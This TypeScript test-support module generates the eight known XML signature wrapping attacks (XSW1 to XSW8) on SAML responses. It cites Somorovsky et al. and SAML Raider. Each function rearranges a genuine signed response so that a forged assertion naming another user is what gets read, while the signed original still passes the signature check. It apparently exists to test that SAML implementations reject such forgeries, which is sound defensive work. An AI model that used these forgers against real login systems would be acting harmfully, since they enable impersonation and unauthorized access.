/**
 * Signature wrapping: a signed part is kept where its signature finds it, and another stands where the reader looks
 * (Somorovsky et al., On Breaking SAML, 2012; the numbers are SAML Raider's); test support.
 */
// @ts-expect-error: has no types. The package's entry has, and they bring those of browsers into the whole program.
import { DOMParser } from '@xmldom/xmldom/lib/dom-parser.js';

type Node = {
  readonly localName: string;
  readonly parentNode: Node;
  readonly firstChild: Node;
  readonly documentElement: Node;
  cloneNode(isDeep: true): Node;
  appendChild(node: Node): void;
  insertBefore(node: Node, before: Node | null): void;
  removeChild(node: Node): void;
  replaceChild(node: Node, old: Node): void;
  getElementsByTagNameNS(namespace: string, name: string): ArrayLike<Node>;
  setAttribute(name: string, value: string): void;
  createElementNS(namespace: string, name: string): Node;
  toString(): string;
};

const signatureNamespace = 'http://www.w3.org/2000/09/xmldsig#';
const protocol = 'urn:oasis:names:tc:SAML:2.0:protocol';

/** Each makes an attack of a genuine response, in which `of` is signed; `change` makes somebody else of a text. */
export const wrappings: Readonly<
  Record<string, { of: 'response' | 'assertion'; wrap(xml: string, change: Change): string }>
> = {
  'XSW1: the genuine response within the signature of another': {
    of: 'response',
    wrap: forge('Response', ({ evil, genuine, signature }) => signature(evil).appendChild(genuine)),
  },
  'XSW2: the genuine response before the signature of another': {
    of: 'response',
    wrap: forge('Response', ({ evil, genuine, signature }) => evil.insertBefore(genuine, signature(evil))),
  },
  'XSW3: another assertion before the genuine one': {
    of: 'assertion',
    wrap: forge('Assertion', ({ evil, original, signature }) => {
      const copy = evil.cloneNode(true);
      copy.removeChild(signature(copy));
      evil.parentNode.replaceChild(original, evil);
      original.parentNode.insertBefore(copy, original);
    }),
  },
  'XSW4: the genuine assertion within another': {
    of: 'assertion',
    wrap: forge('Assertion', ({ evil, original, signature }) => {
      evil.removeChild(signature(evil));
      evil.appendChild(original);
    }),
  },
  'XSW5: the genuine assertion after another with its signature': {
    of: 'assertion',
    wrap: forge('Assertion', ({ evil, genuine }) => evil.parentNode.appendChild(genuine)),
  },
  'XSW6: the genuine assertion within the signature of another': {
    of: 'assertion',
    wrap: forge('Assertion', ({ evil, genuine, signature }) => signature(evil).appendChild(genuine)),
  },
  'XSW7: another assertion among extensions': {
    of: 'assertion',
    wrap: forge('Assertion', ({ evil, original, signature, create }) => {
      const { parentNode: response } = evil;
      const extensions = create(protocol, 'samlp:Extensions');
      response.replaceChild(original, evil);
      evil.removeChild(signature(evil));
      extensions.appendChild(evil);
      response.insertBefore(extensions, response.firstChild);
    }),
  },
  'XSW8: the genuine assertion as an object of the signature of another': {
    of: 'assertion',
    wrap: forge('Assertion', ({ evil, genuine, signature, create }) => {
      const object = create(signatureNamespace, 'ds:Object');
      object.appendChild(genuine);
      signature(evil).appendChild(object);
    }),
  },
};

/** Texts of names in an XML document, made other ones. */
export type Change = (xml: string) => string;

type Scene = {
  /** What was genuine, about somebody else now and under another ID, in the place of the genuine one. */
  readonly evil: Node;
  /** As it was signed, that is without its signature. */
  readonly genuine: Node;
  /** As it was, signature and all. */
  readonly original: Node;
  signature(of: Node): Node;
  create(namespace: string, name: string): Node;
};

function forge(name: string, arrange: (scene: Scene) => void) {
  return (xml: string, change: Change): string => {
    const [changed, kept] = [change(xml), xml].map(
      (text): Node => new DOMParser().parseFromString(text, 'text/xml').documentElement,
    );
    const evil = find(changed, name);
    evil.setAttribute('ID', '_evil');
    const original = find(kept, name);
    const genuine = original.cloneNode(true);
    const signature = (of: Node) =>
      Array.from((of as unknown as { childNodes: ArrayLike<Node> }).childNodes).find(
        ({ localName }) => localName === 'Signature',
      )!;
    genuine.removeChild(signature(genuine));
    const { ownerDocument } = evil as unknown as { ownerDocument: Node };
    const create = (namespace: string, tag: string) => ownerDocument.createElementNS(namespace, tag);
    arrange({ evil, genuine, original, signature, create });
    return ownerDocument.toString();
  };
}

function find(root: Node, name: string): Node {
  if (root.localName === name) return root;
  return root.getElementsByTagNameNS('urn:oasis:names:tc:SAML:2.0:assertion', name)[0];
}
